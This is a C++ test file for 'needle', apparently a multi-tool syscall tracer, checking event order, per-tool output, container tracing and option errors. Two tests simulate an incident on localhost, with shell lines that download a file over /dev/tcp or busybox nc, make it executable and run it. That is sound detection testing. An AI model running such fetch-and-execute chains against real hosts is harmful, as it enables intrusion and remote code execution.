// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// All tools in one process: what they print alone, in one order.
#include "containers.h"
#include "deeds.h"
#include "net.h"

#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <set>
#include <sstream>

using namespace harness;

namespace {

// Arguments by which needle traces what each tool's usual event is; before them those that are shared.
Args everything(Args args) {
  for (const Deed* deed : all_deeds()) {
    if (deed != all_deeds().front()) args.push_back(",");
    args.push_back(deed->tool);  // their names do as well as the events'
    args.insert(args.end(), deed->options.begin(), deed->options.end());
  }
  return args;
}

std::vector<std::string> tiers_of_all() {
  std::vector<std::string> common = {"fentry", "tp"};
  for (const std::string& tool : all_tools())
    std::erase_if(common, [&](const std::string& tier) { return std::ranges::count(tiers(tool), tier) == 0; });
  return common;
}

bool is_late(const Json& e) { return e.contains("late"); }

void check_order(const std::vector<Json>& events) {
  long long last = 0;
  for (const Json& e : events) {
    INFO(e);
    const long long time = time_of(e["time"]);
    CHECK((is_late(e) ? time < last : time >= last));
    last = std::max(last, time);
  }
}

}  // namespace

TEST_CASE("every tool's event is in the stream, as the tool prints it alone") {
  const TempDir dir;
  const std::string file = dir.file("file");
  for (const std::string& tier : tiers_of_all()) {
    INFO(tier);
    Actor actor([&](Json&) {
      for (const std::string& tool : all_tools()) deed_for(tool, file);
    });
    Tracer stream("needle", everything({"-j", "--hook", tier, "-p", actor.id()}));
    std::vector<std::unique_ptr<Tracer>> alone;
    for (const std::string& tool : all_tools())
      alone.push_back(std::make_unique<Tracer>(tool, Args{"-j", "--hook", tier, "-p", actor.id()}));
    actor.act();
    stream.stop();
    const auto events = stream.events();
    check_order(events);
    std::size_t sum = 0;
    for (std::size_t n = 0; n < alone.size(); n++) {
      const std::string expected_of = all_tools()[n];
      INFO(expected_of);
      alone[n]->stop();
      const auto expected = alone[n]->events();
      REQUIRE(!expected.empty());
      std::vector<Json> got;
      for (const Json& e : events)
        if (e["event"] == expected[0]["event"]) got.push_back(e);
      REQUIRE(got.size() == expected.size());
      sum += got.size();
      for (std::size_t i = 0; i < got.size(); i++)
        for (const auto& [key, value] : expected[i].items()) {
          INFO(key);
          const auto& varies = deed_of(expected_of).varies;
          if (key == "time" || key == "ms" || std::ranges::count(varies, key) > 0)
            CHECK(got[i].contains(key));  // each takes it itself
          else CHECK(got[i][key] == value);
        }
    }
    CHECK(events.size() == sum);
    std::map<std::string, std::size_t> by_event;
    for (const Json& e : events) by_event[e["event"]]++;
    CHECK(stream.whole().end["shown_by_event"] == Json(by_event));
    for (const auto& [event, n] : by_event) CHECK(stream.whole().sum.find(event + " " + std::to_string(n)) != std::string::npos);
    CHECK(stream.lost() == 0);
  }
}

TEST_CASE("an incident: fetched, made executable, run, connected") {
  const TempDir dir;
  const std::string dropped = dir / "dropped";
  const int files = server(ip_address("127.0.0.1", 0)), pool = server(ip_address("127.0.0.1", 0));
  const std::string files_port = std::to_string(local_of(files).port()), pool_port = std::to_string(local_of(pool).port());
  // Serves the file once.
  const pid_t serves = fork();
  if (serves == 0) {
    const int fd = accept(files, nullptr, nullptr);
    const std::string program = "#!/bin/bash\n: > /dev/tcp/127.0.0.1/" + pool_port + "\n";
    _exit(write(fd, program.data(), program.size()) < 0);
  }
  const std::string injected =
      "cat < /dev/tcp/127.0.0.1/" + files_port + " > " + dropped + "; chmod 755 " + dropped + "; " + dropped + "; :";
  // The "server" is a shell that starts another one, as if it had been injected.
  Tracer tracer(command_of("needle", {"-j", "--", "/bin/bash", "-c", "/bin/bash -c \"$0\"; :", injected}));
  tracer.wait();
  waitpid(serves, nullptr, 0);
  close(files), close(pool);
  CHECK(tracer.status() == 0);
  const auto events = tracer.events();
  check_order(events);

  struct Step {
    std::string event, key, value;
  };
  const std::vector<Step> steps = {
      {"exec", "exe", "/bash"}, {"exec", "exe", "/bash"}, {"connect", "rport", files_port}, {"open", "path", dropped},
      {"exec", "exe", "/cat"},  {"exit", "code", "0"},    {"exec", "exe", "/chmod"},        {"chmod", "path", dropped},
      {"exit", "code", "0"},    {"exec", "exe", "/bash"}, {"connect", "rport", pool_port},  {"exit", "code", "0"},
      {"exit", "code", "0"},    {"exit", "code", "0"}};
  std::vector<Json> seen;
  for (const Json& e : events) {
    if (e["event"] == "open" && e["path"] != dropped) continue;     // /dev/tty and such
    if (e["event"] == "connect" && e["proto"] == "unix") continue;  // libc asks nscd who the user is, where $HOME does not tell
    seen.push_back(e);
  }
  INFO(tracer.out());
  REQUIRE(seen.size() == steps.size());
  for (std::size_t i = 0; i < steps.size(); i++) {
    INFO(seen[i]);
    CHECK(seen[i]["event"] == steps[i].event);
    if (seen[i].contains("errno")) CHECK(seen[i]["errno"] == 0);
    const Json& value = seen[i][steps[i].key];
    const std::string text = value.is_string() ? value.get<std::string>() : value.dump();
    CHECK(text.ends_with(steps[i].value));
  }
  // Who started whom: bash, the injected bash, of which cat, chmod and what was dropped are children.
  const Json outer = seen[0]["pid"], inner = seen[1]["pid"];
  CHECK(seen[1]["ppid"] == outer);
  for (const std::size_t child : {4, 6, 9}) CHECK(seen[child]["ppid"] == inner);
  for (const std::size_t i : {2, 3, 5}) CHECK(seen[i]["pid"] == seen[4]["pid"]);  // the connection is cat's, before it was that
  for (const std::size_t i : {7, 8}) CHECK(seen[i]["pid"] == seen[6]["pid"]);
  for (const std::size_t i : {10, 11}) CHECK(seen[i]["pid"] == seen[9]["pid"]);
  CHECK(seen[12]["pid"] == inner);
  CHECK(seen[13]["pid"] == outer);
}

TEST_CASE("an incident in a real container, by its name") {
  Runc runc;
  const auto put = [&](const std::string& name, const std::string& text) {
    std::ofstream(runc.rootfs.path() + "/" + name) << text;
  };
  put("payload", "#!/bin/sh\nexec /bin/busybox nc 127.0.0.1 9\n");
  // Fetched as soon as somebody serves it; the port of discard is closed.
  put("incident", R"(/bin/busybox nc -l -p 8080 < /payload &
until /bin/busybox nc 127.0.0.1 8080 < /dev/null > /tmp/dropped && [ -s /tmp/dropped ]; do :; done
/bin/busybox chmod 755 /tmp/dropped
/tmp/dropped
)");
  const std::string name = "needle-incident";
  runc.start(name);
  for (const std::string& tier : tiers_of_all()) {
    INFO(tier);
    Tracer tracer("needle", {"-j", "--hook", tier, "--container", name});
    const Result result = runc.exec(name, {"/bin/busybox", "sh", "-c", "/bin/busybox mkdir -p /tmp; . /incident"});
    INFO(result.out << result.err);
    tracer.stop();
    const auto events = tracer.events();
    check_order(events);
    CHECK(tracer.lost() == 0);
    INFO(tracer.out());
    const auto index_of = [&](const char* what, const std::function<bool(const Json&)>& is) {
      INFO(what);
      const auto found = std::ranges::find_if(events, is);
      REQUIRE(found != events.end());
      return found - events.begin();
    };
    const auto connects = [](int port, int error) {
      return [=](const Json& e) { return e["event"] == "connect" && e["rport"] == port && e["errno"] == error; };
    };
    const auto runs = [](const Json& e) { return e["event"] == "exec" && e["args"] == Args{"/bin/sh", "/tmp/dropped"}; };
    const auto fetch = index_of("fetched", connects(8080, 0));
    const Json shell = events[static_cast<std::size_t>(fetch)]["ppid"];  // which opens what the output of nc goes to
    const auto written = index_of("written", [&](const Json& e) {
      return e["event"] == "open" && e["pid"] == shell && e["path"].get<std::string>().ends_with("/tmp/dropped");
    });
    const auto changed = index_of("made executable", [](const Json& e) {
      return e["event"] == "chmod" && e["new"] == "0755" && e["path"].get<std::string>().ends_with("/tmp/dropped");
    });
    const auto run = index_of("run", runs), pool = index_of("connects", connects(9, ECONNREFUSED));
    CHECK(written < fetch);
    CHECK(fetch < changed);
    CHECK(changed < run);
    CHECK(run < pool);
    CHECK(std::ranges::count_if(events, runs) == 1);
    CHECK(std::ranges::count_if(events, connects(8080, 0)) == 1);
    const auto at = [&](auto i) -> const Json& { return events[static_cast<std::size_t>(i)]; };
    CHECK(at(run)["pid"] == at(pool)["pid"]);
    CHECK(at(run)["ppid"] == at(changed)["ppid"]);
    CHECK(at(run)["ppid"] == shell);
  }
}

TEST_CASE("twelve threads on two processors: in the order of time, and nothing missing") {
  const TempDir dir;
  const std::string file = dir.file("file");
  const unsigned turns = many(500);
  Actor actor([&](Json&) {
    std::vector<std::thread> threads;
    for (unsigned i = 0; i < 12; i++)
      threads.emplace_back([&, i] {
        cpu_set_t cpu;
        CPU_ZERO(&cpu);
        CPU_SET(i % 2, &cpu);
        sched_setaffinity(0, sizeof cpu, &cpu);  // where there is a second one
        for (unsigned n = 0; n < turns; n++) deed_for(all_tools()[i % all_tools().size()], file);
      });
    for (std::thread& t : threads) t.join();
  });
  Tracer tracer("needle", everything({"-j", "--buffer", "64M", "-p", actor.id(), "--no-heading"}));
  actor.act();
  tracer.stop();
  const auto events = tracer.events();
  check_order(events);
  // libc itself counts the processors where threads allocate memory.
  const auto of_libc = std::ranges::count_if(events, [&](const Json& e) { return e["event"] == "open" && e["path"] != file; });
  CHECK(of_libc <= 12);
  const unsigned long long told = events.size() - static_cast<std::size_t>(of_libc) + tracer.lost();
  CHECK(told <= 12ull * turns);
  CHECK(told + tracer.disturbed().skipped >= 12ull * turns);
  const auto late = std::ranges::count_if(events, is_late);
  CHECK(late * 20 < std::ssize(events));  // what a preempted program reports
}

TEST_CASE("a tool that is refused is told of, and what all share, and does not stop the others") {
  const std::string preload = std::filesystem::read_symlink("/proc/self/exe").parent_path() / "helper_refuse.so";
  const TempDir dir;
  const std::string file = dir.file("file");
  for (const auto& [refused, missing] : {std::pair{"mode__", 1}, {"dispatch_", 0}}) {
    INFO(refused);
    Actor actor([&](Json&) {
      for (const std::string& tool : all_tools()) deed_for(tool, file);
    });
    Args command = command_of("needle", everything({"-j", "-v", "--hook", "tp", "-p", actor.id()}));
    const Args refusing = {"env", std::string("REFUSED_PROGRAMS=") + refused, "LD_PRELOAD=" + preload};
    command.insert(command.begin(), refusing.begin(), refusing.end());
    Tracer tracer(command);
    const auto events = trace(tracer, actor);
    CHECK(tracer.status() == 0);
    std::set<std::string> kinds;
    for (const Json& e : events) kinds.insert(e["event"]);
    CHECK(kinds.size() == all_tools().size() - static_cast<std::size_t>(missing));
    CHECK(kinds.count("chmod") == (missing ? 0 : 1));
    CHECK((tracer.err().find("chmod is not traced: there is no way to see mode") != std::string::npos) == (missing == 1));
    CHECK((tracer.err().find("is attached by itself: Operation not permitted") != std::string::npos) == (missing == 0));
  }
}

TEST_CASE("one program at each tracepoint of all system calls, whichever tools are chosen") {
  Tracer tracer("needle", everything({"-j", "-v", "--hook", "tp", "-p", "1"}));
  std::map<std::string, int> attached;
  for (const auto& entry : std::filesystem::directory_iterator("/proc/" + std::to_string(tracer.pid()) + "/fdinfo")) {
    std::ifstream info(entry.path());
    for (std::string word, name; info >> word;)
      if (word == "tp_name:" && info >> name) attached[name]++;
  }
  tracer.stop();
  if (tracer.err().find("is attached by itself") != std::string::npos) {
#if defined(__x86_64__)
    FAIL(tracer.err());
#else
    CANNOT_TEST("this kernel has no tail calls from functions: arm64 has since 6.0");
#endif
  }
  CHECK(attached["sys_enter"] == 1);
  CHECK(attached["sys_exit"] == 2);  // credsnoop's own, too: it looks at whatever call returns
}

TEST_CASE("options of an event count for it, what is shared for all, wherever it stands") {
  const TempDir dir;
  const std::string file = dir.file("file");
  Actor actor([&](Json&) {
    close(open(file.c_str(), O_RDONLY | O_CLOEXEC));
    close(open(file.c_str(), O_WRONLY | O_CLOEXEC));
    close(open((file + "-none").c_str(), O_WRONLY | O_CLOEXEC));
    chmod(file.c_str(), 0600);
    chmod((file + "-none").c_str(), 0600);
  });
  // -x is of chmod alone, -p of both, -j too.
  Tracer tracer("needle", {"open", "-w", "--path", dir.path() + "/", ",", "chmod", "-x", "-p", actor.id(), "-j"});
  const auto events = trace(tracer, actor);
  REQUIRE(events.size() == 3);
  CHECK(events[0]["path"] == file);
  CHECK(events[0]["flags"].get<std::string>().starts_with("O_WRONLY"));
  CHECK(events[1]["error"] == "ENOENT");
  CHECK(events[2]["event"] == "chmod");
  CHECK(events[2]["error"] == "ENOENT");
}

TEST_CASE("the table: a sentence an event, in the order of the deeds") {
  const TempDir dir;
  const std::string file = dir.file("two words");
  const Address closed = closed_port();
  Actor actor([&](Json&) {
    check(prctl(PR_SET_NAME, "some one"), "PR_SET_NAME");
    close(open(file.c_str(), O_WRONLY | O_CLOEXEC));
    chmod(file.c_str(), 0600);
    connect(new_socket(AF_INET, SOCK_STREAM), closed.get(), closed.size);
    char* const argv[] = {const_cast<char*>("none"), const_cast<char*>("two words"), nullptr};
    execv((file + "/none").c_str(), argv);
  });
  const std::string id = actor.id();
  Tracer tracer("needle", {"-p", id, "-o", "pid,comm,event,err,what"});
  actor.act();
  tracer.stop();
  std::vector<std::string> lines;
  for (const std::string& line : tracer.lines()) {
    std::istringstream words(line);
    std::string& text = lines.emplace_back();
    for (std::string word; words >> word;) text += " " + word;
  }
  REQUIRE(lines.size() == 5);
  INFO(tracer.out());
  const std::string who = " " + id + " some\\x20one ";
  CHECK(lines[0] == who + "open - write " + file);
  CHECK(lines[1].starts_with(who + "chmod - "));
  CHECK(lines[1].ends_with("->0600 " + file));
  CHECK(lines[2].starts_with(who + "connect ECONNREFUSED tcp 127.0.0.1:" + std::to_string(closed.port()) + " in "));
  CHECK(lines[3].starts_with(who + "exec ENOTDIR "));
  CHECK(lines[3].ends_with(" 'two words'"));
  CHECK(lines[4].starts_with(who + "exit - 0 after "));
}

TEST_CASE("by the name of a tool it is that tool") {
  const TempDir dir;
  const std::string link = dir / "opensnoop";
  std::filesystem::create_symlink(tool_path("needle"), link);
  const std::string version = run_tool("opensnoop", {"--version"}).out;
  CHECK(run({link, "--version"}).out == version);
  CHECK(run_tool("needle", {"opensnoop", "--version"}).out == version);
  CHECK(run_tool("needle", {"opensnoop", "--port", "1"}).err.starts_with("opensnoop: "));
  const std::string list = run_tool("needle", {"--list"}).out;
  for (const std::string& tool : all_tools()) CHECK(list.find(tool) != std::string::npos);
}

TEST_CASE("what needle refuses") {
  const std::vector<std::pair<Args, std::string>> bad = {
      {{"ls", "-l"}, "needle -- ls"},
      {{"open", "--port", "1"}, "needle open , connect --port 1"},
      {{"open", ","}, "name one on both sides"},
      {{"open", ",", "connect", "-p", "x"}, "--pid: 'x'"},
      {{"connect", "--port", "x"}, "--port: 'x'"},
      {{"open,nothing"}, "there is no event 'nothing'"},
      {{"-o", "nothing"}, "there is no column 'nothing'"},
  };
  for (const auto& [args, says] : bad) {
    const Result r = run_tool("needle", args);
    INFO(r.err);
    CHECK(r.status == 2);
    CHECK(r.out.empty());
    CHECK(r.err.starts_with("needle: "));
    CHECK(std::ranges::count(r.err, '\n') == 1);
    CHECK(r.err.find(says) != std::string::npos);
  }
}
